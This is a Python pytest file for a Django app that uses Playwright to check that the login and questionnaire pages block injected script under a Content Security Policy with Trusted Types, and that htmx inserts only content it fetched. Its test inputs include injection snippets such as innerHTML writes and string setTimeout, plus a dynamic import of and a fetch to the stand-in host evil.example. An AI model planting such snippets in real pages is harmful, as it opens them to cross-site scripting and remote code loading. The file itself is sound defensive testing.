"""A page under the product's policy runs no text as a script, and a test that it happens in fails."""

from __future__ import annotations

import pytest
from django.test import Client
from playwright.sync_api import Browser, expect

from tests.accounts.factories import UserFactory

from .blocked import watched

pytestmark = pytest.mark.django_db(transaction=True)

SINK = "require-trusted-types-for trusted-types-sink"
PLANTED = [
    (SINK, "document.body.innerHTML = '<b>x</b>'"),
    (SINK, "document.body.setAttribute('onclick', 'x()')"),
    (SINK, "setTimeout('x()')"),
    ("trusted-types trusted-types-policy", "trustedTypes.createPolicy('mine', {})"),
    ("script-src-elem https://evil.example/x.js", "import('https://evil.example/x.js').catch(() => {})"),
    ("img-src https://evil.example/x.png", "new Image().src = 'https://evil.example/x.png'"),
    ("connect-src https://evil.example/", "fetch('https://evil.example/').catch(() => {})"),
    ("style-src-attr inline", "document.body.setAttribute('style', 'color: red')"),
]


@pytest.mark.parametrize(("blocked", "planted"), PLANTED)
def test_what_is_planted_is_blocked_and_seen(
    blocked: str, planted: str, browser: Browser, live_server
) -> None:
    with watched(browser) as seen:
        context = browser.new_context(base_url=live_server.url)
        page = context.new_page()
        page.goto("/login/")
        page.evaluate(f"() => {{ try {{ {planted} }} catch {{}} }}")
        page.wait_for_timeout(200)
        context.close()
    assert [what.partition(" at ")[0] for what in seen] == [blocked]


def test_only_what_htmx_just_got_becomes_a_part_of_a_page(browser: Browser, live_server) -> None:
    client = Client()
    client.force_login(UserFactory())
    cookies = [
        {"name": name, "value": each.value, "url": live_server.url} for name, each in client.cookies.items()
    ]
    with watched(browser) as seen:
        context = browser.new_context(base_url=live_server.url)
        context.add_cookies(cookies)
        page = context.new_page()
        page.goto("/questionnaires/")
        page.evaluate(
            "() => htmx.ajax('GET', '/interviews/', {target: 'main', select: 'form', swap: 'innerHTML'})"
        )
        expect(page.locator("main form").first).to_be_visible()
        assert seen == []
        page.evaluate(
            "() => { try { htmx.swap('main', '<b id=x>x</b>', {swapStyle: 'innerHTML'}) } catch {} }"
        )
        expect(page.locator("#x")).to_have_count(0)
        context.close()
    assert len(seen) == 1
